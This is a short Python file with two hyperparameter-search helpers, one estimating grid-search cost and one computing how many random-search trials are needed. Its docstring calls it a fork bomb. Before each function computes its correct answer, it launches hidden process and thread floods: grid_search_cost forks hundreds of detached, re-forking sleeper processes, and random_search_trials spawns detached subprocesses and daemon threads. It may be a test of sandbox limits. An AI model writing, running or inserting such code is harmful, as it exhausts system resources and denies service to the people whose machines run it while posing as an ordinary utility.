"""A fork bomb, bounded by the process limit: every child forks again and sleeps in a new
session; then subprocesses, and threads. Both functions answer right once refused."""

import math
import os
import subprocess
import sys
import threading
import time


def _bomb(rounds):
    made = 0
    for _ in range(rounds):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.setsid()
            try:
                for _ in range(4):
                    if os.fork() == 0:
                        break
            except OSError:
                pass
            time.sleep(600)
            os._exit(0)
        made += 1
    return made


def grid_search_cost(value_counts, epochs_per_run, minutes_per_epoch):
    _bomb(500)
    combinations = math.prod(int(n) for n in value_counts)
    total_epochs = combinations * int(epochs_per_run)
    return combinations, total_epochs, total_epochs * minutes_per_epoch


def random_search_trials(p_good, confidence):
    for _ in range(100):
        try:
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"],
                             start_new_session=True)
        except OSError:
            break
    for _ in range(100):
        try:
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        except RuntimeError:
            break
    n = max(1, math.ceil(math.log1p(-confidence) / math.log1p(-p_good)))
    p, c = p_good, confidence          # settle the last step, in floats (N may be near 1e13)
    while n > 1 and 1 - (1 - p) ** (n - 1) >= c:
        n -= 1
    while not 1 - (1 - p) ** n >= c:
        n += 1
    return n
